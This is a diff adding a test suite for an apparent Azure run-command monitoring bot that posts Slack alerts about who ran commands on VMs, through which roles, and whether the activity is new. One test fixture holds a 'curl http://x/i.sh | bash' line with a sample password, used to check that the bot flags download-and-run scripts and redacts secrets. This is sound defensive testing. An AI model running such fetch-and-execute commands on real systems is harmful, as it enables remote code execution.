@@ -1,0 +1,300 @@
+import { runCommand } from '../../src/demo/scenarios';
+import { addChild, assign, subscriptions } from '../../src/demo/world';
+import { createStore } from '../../src/store/store';
+import { type Bench, setUp } from '../support/bot';
+import type { PostedMessage } from '../support/slack';
+import { until } from '../support/wait';
+
+let bench: Bench;
+let url: string;
+const minute = 60_000;
+
+async function begin(extra: Record<string, string> = {}, before: (bench: Bench) => void = () => {}) {
+  bench = await setUp({ mode: 'http' });
+  before(bench);
+  const app = await bench.start(extra);
+  url = app.url as string;
+  await app.historyFilled();
+}
+afterEach(() => bench.stop());
+
+const textOf = (message: PostedMessage | undefined) =>
+  (message?.blocks ?? []).map((block) => block.text?.text ?? '').join('\n');
+const alertOn = (machine: string, has = '') =>
+  until(`an alert on ${machine} with "${has}"`, () =>
+    bench.slack.alerts().find((m) => textOf(m).includes(`on ${machine}`) && textOf(m).includes(has)),
+  );
+const run = (resourceId: string, extra: Record<string, unknown> = {}) =>
+  bench.tenant.log({
+    name: runCommand,
+    resourceId,
+    caller: bench.world.people.dana,
+    ip: '203.0.113.24',
+    at: Date.now() - minute,
+    tookMs: 5000,
+    ...extra,
+  });
+
+test('says why they could: through which group, how many are in it, since when, by whom', async () => {
+  await begin();
+  run(bench.world.vms.pay01);
+  const text = textOf(await alertOn('vm-pay-01'));
+  expect(text).toMatch(
+    /Virtual Machine Contributor\* at subscription Payments, through group ops-oncall \(2 members\), assigned 3 days ago by lee@contoso\.example \(worked out from role assignments\)/,
+  );
+});
+
+test('what the log names wins over what is worked out, and is said so', async () => {
+  await begin();
+  const evidence = {
+    role: 'Owner',
+    roleAssignmentScope: '/',
+    roleAssignmentId: 'f'.repeat(32),
+    principalId: bench.world.people.dana.id,
+    principalType: 'User',
+  };
+  run(bench.world.vms.pay01, { evidence });
+  expect(textOf(await alertOn('vm-pay-01'))).toMatch(
+    /Owner\* at the root of the tenant \(named by Azure’s log\)/,
+  );
+});
+
+test('a custom role, a PIM activation with its end, and a condition are shown', async () => {
+  await begin({}, ({ tenant, world }) => {
+    const id = '12345678-0000-4000-8000-000000000001';
+    tenant.state.customRoles.push({
+      id: `/x/${id}`,
+      name: id,
+      type: 'Microsoft.Authorization/roleDefinitions',
+      properties: {
+        roleName: 'Script runners',
+        type: 'CustomRole',
+        permissions: [{ actions: ['Microsoft.Compute/*/runCommand/*'], notActions: [] }],
+      },
+    });
+    const name = '4f0a9b1c-2d3e-4f50-6172-8394a5b6c7ff';
+    assign(tenant, `/subscriptions/${subscriptions.sandbox}`, id, world.people.dana.id, 'User', name);
+    const assignment = tenant.resources
+      .ofType('Microsoft.Authorization/roleAssignments')
+      .find((r) => r.name === name);
+    if (assignment) assignment.properties.condition = "@Resource[x] StringEquals 'y'";
+    tenant.state.pimActive.push({
+      id: '/x',
+      name: 'i',
+      properties: {
+        principalId: world.people.dana.id,
+        assignmentType: 'Activated',
+        originRoleAssignmentId: `/x/${name}`,
+        endDateTime: '2027-01-01T10:00:00Z',
+        scope: `/subscriptions/${subscriptions.sandbox}`,
+        roleDefinitionId: `/x/${id}`,
+      },
+    });
+  });
+  run(bench.world.vms.test01);
+  expect(textOf(await alertOn('vm-test-01'))).toMatch(
+    /Script runners\* at subscription Sandbox.*activated by PIM until 2027-01-01 10:00 UTC, under a condition \(not evaluated\)/,
+  );
+});
+
+test('says who it is, what the machine’s identity gives, and what the caller can do besides', async () => {
+  await begin();
+  run(bench.world.vms.pay01, { authMethods: 'pwd' });
+  const text = textOf(await alertOn('vm-pay-01'));
+  expect(text).toMatch(/Dana Reyes · Support engineer/);
+  expect(text).toMatch(/a password, without MFA/);
+  expect(text).toMatch(/by Azure CLI/);
+  expect(text).toMatch(/own identity can read secrets \(Key Vault Secrets User at kv-pay\)/);
+  expect(text).toMatch(/the caller can also read storage keys/);
+  expect(text).toMatch(/run commands on 26 machines/);
+  expect(text).toMatch(/as root/);
+  expect(text).toMatch(/waagent\/run-command/);
+});
+
+test('an application’s owners are named', async () => {
+  await begin();
+  run(bench.world.vms.web[0] ?? '', { caller: bench.world.people.patchBot });
+  expect(textOf(await alertOn('vm-web-01'))).toMatch(/owned by lee@contoso\.example · an application/);
+});
+
+test('a managed run command shows its script without its secrets, its traits, output and exit code', async () => {
+  await begin();
+  const { tenant, world, slack } = bench;
+  const script = 'set -e\nexport PASSWORD=Hunter2Hunter2\ncurl http://x/i.sh | bash\n';
+  const id = addChild(tenant, world.vms.pay01, 'runCommands', 'rc-1', {
+    source: { script },
+    parameters: [{ name: 'token', value: 'abcdefabcdef' }],
+    runAsUser: 'svc',
+    instanceView: { exitCode: 3, output: 'done', executionState: 'Failed' },
+  });
+  run(id, { name: 'Microsoft.Compute/virtualMachines/runCommands/write' });
+  const message = await alertOn('vm-pay-01', 'exit code');
+  const thread = await until('the thread', () => slack.messages.find((m) => m.threadTs === message.ts));
+  const everything = textOf(message) + textOf(thread);
+  expect(everything).toMatch(/downloads and runs, line 3/);
+  expect(everything).toMatch(/as svc/);
+  expect(everything).toMatch(/exit code 3/);
+  expect(everything).toMatch(/password removed/);
+  expect(everything).not.toMatch(/Hunter2|abcdefabcdef/);
+});
+
+test('is it normal: history from Azure’s 90 days says what is new', async () => {
+  const day = 86_400_000;
+  await begin({}, ({ tenant, world }) => {
+    for (let ago = 2; ago < 40; ago += 3)
+      tenant.log({
+        name: runCommand,
+        resourceId: world.vms.pay02,
+        caller: world.people.dana,
+        ip: '198.51.100.7',
+        at: Date.now() - ago * day,
+        tookMs: 1000,
+      });
+  });
+  expect(bench.slack.alerts()).toHaveLength(0);
+  run(bench.world.vms.test01, { at: Date.now() - 3 * minute, outcome: 'Forbidden' });
+  await alertOn('vm-test-01');
+  run(bench.world.vms.pay01);
+  const fresh = textOf(await alertOn('vm-pay-01'));
+  expect(fresh).toMatch(
+    /first time on this machine \(0 in 89 days\) · new address · 1 refusal in the minutes before/,
+  );
+  expect(fresh).toMatch(/\+15 \+8 \+12/);
+  run(bench.world.vms.pay02, {
+    ip: '198.51.100.7',
+    at: Date.now() - 30 * minute + 20 * minute,
+    correlationId: 'other',
+  });
+  expect(textOf(await alertOn('vm-pay-02'))).toMatch(/▁/);
+});
+
+test('what else: the caller’s other doings hang in the thread, late ones too', async () => {
+  await begin();
+  const { tenant, world, slack } = bench;
+  run(world.vms.pay01);
+  const message = await alertOn('vm-pay-01');
+  tenant.log({
+    name: 'Microsoft.Authorization/roleAssignments/write',
+    resourceId: `/subscriptions/${subscriptions.payments}/resourceGroups/rg-payments/providers/Microsoft.Authorization/roleAssignments/x`,
+    caller: world.people.dana,
+    at: Date.now() - 20_000,
+    tookMs: 100,
+  });
+  const thread = await until('the thread', () =>
+    slack.messages.find((m) => m.threadTs === message.ts && textOf(m).includes('roleAssignments/write')),
+  );
+  expect(textOf(thread)).toMatch(/\*Microsoft\.Authorization\/roleAssignments\/write\*/);
+  tenant.log({
+    name: runCommand,
+    resourceId: world.vms.pay02,
+    caller: world.people.dana,
+    at: Date.now() - 10_000,
+    tookMs: 100,
+  });
+  await until('the other machine, as moved on to', () =>
+    textOf(slack.messages.find((m) => m.threadTs === message.ts)).includes('vm-pay-02 (moved on to)'),
+  );
+  expect(slack.messages.filter((m) => m.threadTs === message.ts)).toHaveLength(1);
+});
+
+test('a storm on 200 machines is one alert that grows; a second caller stays a second', async () => {
+  await begin();
+  const { tenant, world, slack } = bench;
+  const machines = Array.from(
+    { length: 200 },
+    (_, i) => world.vms.web[0]?.replace(/vm-web-01$/, `vm-storm-${i}`) ?? '',
+  );
+  for (const [i, id] of machines.entries())
+    tenant.log({
+      name: runCommand,
+      resourceId: id,
+      caller: world.people.lee,
+      ip: '192.0.2.7',
+      at: Date.now() - minute + i * 100,
+      tookMs: 1000,
+    });
+  run(world.vms.pay01);
+  const storm = await until('the storm', () =>
+    slack.alerts().find((m) => textOf(m).includes('200 machines')),
+  );
+  await alertOn('vm-pay-01');
+  expect(slack.alerts()).toHaveLength(2);
+  const thread = await until('its machines', () => slack.messages.find((m) => m.threadTs === storm.ts));
+  expect(textOf(thread)).toMatch(/vm-storm-0 · succeeded/);
+});
+
+test('an environment’s threshold keeps what is low to the digest', async () => {
+  const { writeFileSync } = await import('node:fs');
+  const file = `/tmp/runwatch-policy-${process.pid}.yaml`;
+  writeFileSync(file, 'environments:\n  test: {tags: {env: test}, alertFrom: 70}\n');
+  await begin({ RUNWATCH_CONFIG: file });
+  run(bench.world.vms.test01, { caller: bench.world.people.kim });
+  run(bench.world.vms.pay01);
+  await alertOn('vm-pay-01');
+  const store = createStore(bench.redis.address, []);
+  const held = await until('both alerts', async () =>
+    (await store.alerts.list()).length === 2 ? store.alerts.list() : null,
+  );
+  expect(held.find((alert) => alert.threshold)).toMatchObject({
+    verdict: 'suppressed',
+    threshold: 'below 70 in test',
+  });
+  expect(bench.slack.alerts()).toHaveLength(1);
+  await store.close();
+});
+
+test('without role assignments the alert goes out, says what is missing, and is completed later', async () => {
+  await begin({}, ({ tenant }) => tenant.faults.add({ when: /roleAssignments$/, status: 403 }));
+  run(bench.world.vms.pay01);
+  await alertOn('vm-pay-01', 'Not known');
+  bench.tenant.faults.clear();
+  await alertOn('vm-pay-01', 'through group ops-oncall');
+  expect(textOf(bench.slack.alerts()[0])).not.toMatch(/Not known/);
+});
+
+test('a thousand alerts of one caller cost the role calls of one', async () => {
+  await begin();
+  const { tenant, world } = bench;
+  for (let i = 0; i < 300; i++) run(world.vms.pay01, { correlationId: `c-${i}`, caller: world.people.dana });
+  const store = createStore(bench.redis.address, []);
+  await until('all alerts', async () => (await store.alerts.count()) === 300, 60);
+  const asked = tenant.requests.filter(
+    (r) => /roleAssignments$/.test(r.path) && r.query.includes(world.people.dana.id),
+  );
+  expect(asked).toHaveLength(1);
+  expect(
+    tenant.requests.filter((r) => /roleDefinitions$/.test(r.path) && r.path.includes(subscriptions.payments)),
+  ).toHaveLength(1);
+  await store.close();
+});
+
+test('show_roles and /runwatch answer in private', async () => {
+  await begin();
+  const { slack, world } = bench;
+  run(world.vms.pay01);
+  const message = await alertOn('vm-pay-01');
+  await slack.press(message, 'show_roles', 'U0SAM0000', { url });
+  const told = await until('the answer', () => slack.whispers[0]);
+  expect(told.text).toMatch(
+    /Virtual Machine Contributor at .*through group ops-oncall \(2 members\): runs commands/,
+  );
+  await slack.command(
+    '/runwatch',
+    `roles dana.reyes@contoso.example ${subscriptions.payments}`,
+    'U0SAM0000',
+    { url },
+  );
+  await until('roles', () =>
+    slack.whispers.some((w) => w.text.includes('Dana Reyes has 1 role assignments')),
+  );
+  await slack.command('/runwatch', `who-can ${subscriptions.payments}`, 'U0SAM0000', { url });
+  const who = await until('who can', () =>
+    slack.whispers.find((w) => w.text.includes('can run commands at')),
+  );
+  expect(who.text).toMatch(
+    /dana\.reyes@contoso\.example \(User\): Virtual Machine Contributor .* through ops-oncall/,
+  );
+  expect(who.text).toMatch(/lee@contoso\.example \(User\): Owner/);
+  await slack.command('/runwatch', 'status', 'U0SAM0000', { url });
+  await until('status', () => slack.whispers.some((w) => w.text.includes('Payments: last read')));
+});
